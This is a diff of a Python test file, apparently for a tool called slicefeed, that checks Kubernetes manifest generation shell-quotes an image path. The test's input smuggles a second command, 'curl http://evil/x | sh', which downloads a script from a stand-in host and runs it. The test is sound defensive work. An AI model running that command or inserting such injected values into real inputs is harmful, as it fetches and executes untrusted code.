@@ -220,12 +220,12 @@ def test_refused_by_the_cli_with_exit_2(raw, local_dir):
     assert r.returncode == 2 and "source.options.shuffle_seed must be an integer" in r.stderr
 
 
-def test_spec_in_image_path_is_shell_quoted(local_dir):
-    from slicefeed.pipelines._k8s import build_manifests
+def test_spec_in_image_path_is_shell_quoted(raw, local_dir):
+    from slicefeed.pipelines._ops.k8s import build_manifests
 
-    path = _write(os.path.join(local_dir, "s.yaml"), {"name": "t"})
+    path = _write(os.path.join(local_dir, "s.yaml"), _spec(raw, local_dir))
     evil = "/app/p.yaml; curl http://evil/x | sh"
-    (job,) = build_manifests(path, image="img", spec_in_image=evil)
+    (job,) = build_manifests(path, image="img:1.0", spec_in_image=evil)
     assert job["spec"]["entrypoint"] == "slicefeed run '/app/p.yaml; curl http://evil/x | sh'"
 
 
